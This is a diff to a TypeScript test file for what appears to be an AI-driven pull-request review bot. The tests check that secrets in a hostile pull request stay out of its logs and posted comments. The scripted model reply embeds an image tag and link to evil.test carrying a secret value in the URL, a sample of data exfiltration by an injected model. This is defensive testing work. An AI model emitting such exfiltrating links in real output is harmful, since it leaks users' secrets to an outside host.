@@ -22,6 +22,7 @@ const PLACES = [
   'code',
   'guidance',
   'base',
+  'question',
   'reply',
 ] as const;
 type Place = (typeof PLACES)[number];
@@ -60,6 +61,9 @@ const HEAD = {
   ].join('\n'),
 };
 
+/** Without a mention: what asks somebody else gets no answer. */
+const QUESTION = `Is it because of ${both('question').replace(' @octocat', '')}?`;
+
 let models: ModelServer;
 let world: World;
 beforeEach(async () => {
@@ -71,6 +75,8 @@ afterEach(() => models.close());
 function answer({ body }: AskedOfModel): ScriptedReply {
   const format = body?.['response_format'] as { json_schema?: { name?: string } } | undefined;
   const words = `${both('reply')} <img src="https://evil.test/${SECRETS.reply}"> [see](https://evil.test)`;
+  if (format?.json_schema?.name === 'answer')
+    return { kind: 'answer', content: { verdict: 'answer', answer: `Set \`${SECRETS.reply}\` there.` } };
   if (format?.json_schema?.name !== 'fix')
     return { kind: 'answer', content: { why: words, verdict: 'agree' } };
   const edits = [{ quote: BAD, replacement: GOOD }];
@@ -92,6 +98,9 @@ async function openHostilePull(): Promise<PullDump> {
     as: 'ada',
   });
   await world.reviewed(pull);
+  await world.quiet();
+  const [comment] = await world.commentsOf(pull.number);
+  await github.reply(REPOSITORY, comment?.id ?? 0, QUESTION, { as: 'ada' });
   await world.quiet();
   return github.dump(pull);
 }
@@ -146,7 +155,10 @@ describe('What strangers write', () => {
     const log = world.app.log.map((line) => JSON.stringify(line)).join('\n');
     expect(told(log)).toEqual([]);
     expect(repeated(log)).toEqual([]);
-    const posted = JSON.stringify([dump.checkRuns, dump.reviews, dump.comments]);
+    const written = JSON.stringify([dump.checkRuns, dump.reviews, dump.comments]);
+    const posted = written.replaceAll(QUESTION, '');
+    expect(written.length - posted.length).toBe(QUESTION.length);
+    expect(posted).toContain('Set the hidden value there.');
     expect(posted).toContain(GOOD);
     // A comment hangs on its file: the name is the one thing that has to be told.
     expect(told(posted)).toEqual(['fileName']);
